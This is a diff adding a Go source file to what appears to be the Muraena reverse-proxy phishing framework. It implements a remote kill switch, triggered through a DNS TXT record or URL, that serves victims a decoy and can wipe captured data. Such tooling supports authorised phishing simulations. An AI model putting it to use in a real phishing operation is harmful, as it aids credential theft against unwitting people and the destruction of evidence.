@@ -0,0 +1,153 @@
+package proxy
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	"github.com/evilsocket/islazy/tui"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// maxKillSwitchSize is the size of the kill switch URL body read
+const maxKillSwitchSize = 4096
+
+// killSwitch stops the proxying once the operator publishes the kill value, in a DNS TXT record
+// or at an HTTPS URL, e.g. if the team loses access to the instance.
+// Once killed, it stays killed until the next restart.
+type killSwitch struct {
+	dns, url, value string
+	purge           bool
+	interval        time.Duration
+
+	client    *http.Client
+	lookupTXT func(ctx context.Context, name string) ([]string, error)
+
+	killed, purged int32
+}
+
+// kill is the kill switch, nil if disabled
+var kill *killSwitch
+
+// newKillSwitch returns the kill switch defined in the configuration, nil if disabled
+func newKillSwitch(sess *session.Session) *killSwitch {
+	config := sess.Config.Retention.KillSwitch
+	if config.DNS == "" && config.URL == "" {
+		return nil
+	}
+
+	return &killSwitch{
+		dns:       config.DNS,
+		url:       config.URL,
+		value:     strings.TrimSpace(config.Value),
+		purge:     config.Purge,
+		interval:  time.Duration(config.Interval) * time.Minute,
+		client:    &http.Client{Timeout: 30 * time.Second},
+		lookupTXT: net.DefaultResolver.LookupTXT,
+	}
+}
+
+// Killed checks if the kill value has been published
+func (k *killSwitch) Killed() bool {
+	return k != nil && atomic.LoadInt32(&k.killed) == 1
+}
+
+// Purged checks if the captured data has been wiped by the kill switch
+func (k *killSwitch) Purged() bool {
+	return k != nil && atomic.LoadInt32(&k.purged) == 1
+}
+
+// watch checks the kill switch every interval, until it is killed
+func (k *killSwitch) watch(sess *session.Session) {
+	for {
+		killed, err := k.check(context.Background())
+		if err != nil {
+			log.Warning("Error checking the kill switch: %s", err)
+		}
+
+		if killed {
+			k.trigger(sess)
+			return
+		}
+
+		time.Sleep(k.interval)
+	}
+}
+
+// check fetches the DNS TXT record and the URL, returning true if any of them holds the kill value
+func (k *killSwitch) check(ctx context.Context) (killed bool, err error) {
+	if k.dns != "" {
+		records, lookupErr := k.lookupTXT(ctx, k.dns)
+		for _, record := range records {
+			if strings.TrimSpace(record) == k.value {
+				return true, nil
+			}
+		}
+		// A missing record is the normal state of the kill switch
+		var dnsErr *net.DNSError
+		if lookupErr != nil && !(errors.As(lookupErr, &dnsErr) && dnsErr.IsNotFound) {
+			err = fmt.Errorf("TXT %s: %w", k.dns, lookupErr)
+		}
+	}
+
+	if k.url != "" {
+		found, urlErr := k.fetch(ctx)
+		if found {
+			return true, nil
+		}
+		if urlErr != nil {
+			err = urlErr
+		}
+	}
+
+	return false, err
+}
+
+// fetch checks if the body of the kill switch URL is the kill value
+func (k *killSwitch) fetch(ctx context.Context) (bool, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, k.url, nil)
+	if err != nil {
+		return false, err
+	}
+	req.Header.Set("Cache-Control", "no-cache")
+
+	resp, err := k.client.Do(req)
+	if err != nil {
+		return false, err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return false, nil
+	}
+
+	body, err := ioutil.ReadAll(io.LimitReader(resp.Body, maxKillSwitchSize))
+	if err != nil {
+		return false, err
+	}
+
+	return strings.TrimSpace(string(body)) == k.value, nil
+}
+
+// trigger stops the proxying, the victims being served the decoy, and wipes the captured data if enabled
+func (k *killSwitch) trigger(sess *session.Session) {
+	if !atomic.CompareAndSwapInt32(&k.killed, 0, 1) {
+		return
+	}
+	log.Important("Kill switch %s: the victims are served the decoy", tui.Bold(tui.Red("triggered")))
+
+	if k.purge {
+		atomic.StoreInt32(&k.purged, 1)
+		purge(sess)
+		log.Important("Kill switch: captured data wiped")
+	}
+}